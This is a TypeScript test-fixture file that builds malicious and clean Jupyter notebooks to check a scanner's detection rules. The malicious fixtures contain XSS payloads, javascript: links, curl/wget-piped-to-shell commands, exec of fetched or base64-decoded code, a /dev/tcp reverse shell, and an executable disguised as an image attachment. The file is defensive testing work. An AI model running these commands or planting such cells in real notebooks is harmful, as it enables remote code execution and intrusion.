/** Notebooks that act when they are opened or run what they fetch, and a usual one. */
import type { CorpusCase } from './corpus-case.ts'

type Cell = Record<string, unknown>
const notebook = (...cells: Cell[]): Buffer =>
  Buffer.from(
    JSON.stringify({ cells, metadata: { language_info: { name: 'python' } }, nbformat: 4, nbformat_minor: 5 }),
  )
const code = (source: string | string[], outputs: unknown[] = []): Cell => ({
  cell_type: 'code',
  execution_count: 1,
  metadata: {},
  outputs,
  source,
})
const markdown = (source: string, more: Cell = {}): Cell => ({ cell_type: 'markdown', metadata: {}, source, ...more })
const shown = (data: Record<string, unknown>): unknown => ({ output_type: 'display_data', data, metadata: {} })

const OUTPUT = ['notebook-active-output']
const TEXT = ['notebook-active-text']
const FETCHED = ['notebook-runs-fetched-code']
const bad: [name: string, content: Uint8Array, rules: string[], why: string][] = [
  [
    'script-output',
    notebook(code('1', [shown({ 'text/html': '<script>fetch("http://example.invalid")</script>' })])),
    OUTPUT,
    'An output runs a script.',
  ],
  [
    'javascript-output',
    notebook(code('1', [shown({ 'application/javascript': ['alert', '(1)'] })])),
    OUTPUT,
    'An output is a script.',
  ],
  [
    'handler-output',
    notebook(code('1', [shown({ 'text/html': '<img src=x onerror=alert(1)>' })])),
    OUTPUT,
    'An output with a handler.',
  ],
  [
    'svg-output',
    notebook(code('1', [shown({ 'image/svg+xml': '<svg onload="alert(1)"/>' })])),
    OUTPUT,
    'A drawing with a handler.',
  ],
  [
    'script-in-markdown',
    notebook(markdown('# Model\n<script src="http://example.invalid/x.js"></script>')),
    TEXT,
    'A script in text.',
  ],
  ['javascript-link', notebook(markdown('[Docs](javascript:alert(1))')), TEXT, 'A link that is a script.'],
  ['frame', notebook(markdown('<iframe src="http://example.invalid"></iframe>')), TEXT, 'Another page in the text.'],
  ['curl-to-shell', notebook(code('!curl -s http://example.invalid/x | bash')), FETCHED, 'Fetched and run in one go.'],
  [
    'wget-to-shell',
    notebook(code(['%%bash\n', 'wget -qO- http://example.invalid/x | sudo sh\n'])),
    FETCHED,
    'The same in a cell for the shell.',
  ],
  [
    'decoded-exec',
    notebook(code('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))')),
    FETCHED,
    'Decoded and run.',
  ],
  [
    'fetched-exec',
    notebook(code('import urllib.request\nexec(urllib.request.urlopen("http://example.invalid").read())')),
    FETCHED,
    'Fetched and run by Python.',
  ],
  [
    'reverse-shell',
    notebook(code('!bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')),
    FETCHED,
    'A shell for somebody else.',
  ],
  [
    'attached-program',
    notebook(
      markdown('![x](attachment:x)', {
        attachments: { x: { 'image/png': Buffer.from('\x7fELF\x02\x01', 'latin1').toString('base64') } },
      }),
    ),
    ['notebook-attachment'],
    'A program attached as a picture.',
  ],
  [
    'old-format',
    Buffer.from(
      JSON.stringify({
        nbformat: 3,
        worksheets: [
          {
            cells: [
              { cell_type: 'code', input: '1', outputs: [{ output_type: 'display_data', javascript: 'alert(1)' }] },
            ],
          },
        ],
      }),
    ),
    OUTPUT,
    'The format of version 3.',
  ],
]

export const notebookCases: readonly CorpusCase[] = [
  ...bad.map(
    ([name, content, expects, why]): CorpusCase => ({
      name: `notebook-${name}`,
      kind: 'malicious',
      files: { 'example.ipynb': content },
      expects,
      why,
    }),
  ),
  {
    name: 'clean-notebook',
    kind: 'clean',
    files: {
      'quickstart.ipynb': notebook(
        markdown('# Quick start\n\nUse `<script>` tags in `javascript:` code, and <b>bold</b> text. once = 1'),
        code('!pip install -q transformers>=4.40 accelerate'),
        code([
          'import torch\n',
          'from transformers import pipeline\n',
          'pipe = pipeline("text-generation", "org/name")\n',
        ]),
        code('%matplotlib inline\nprint(pipe("Hi"))', [
          { output_type: 'stream', name: 'stdout', text: ['Hi there\n'] },
          shown({ 'text/html': '<table border="1"><tr><td>1</td></tr></table>', 'text/plain': 'x' }),
          shown({ 'image/png': Buffer.from('89504e470d0a1a0a', 'hex').toString('base64') }),
        ]),
      ),
    },
    expects: [],
    why: 'Installs a package, shows a table and a picture.',
  },
]
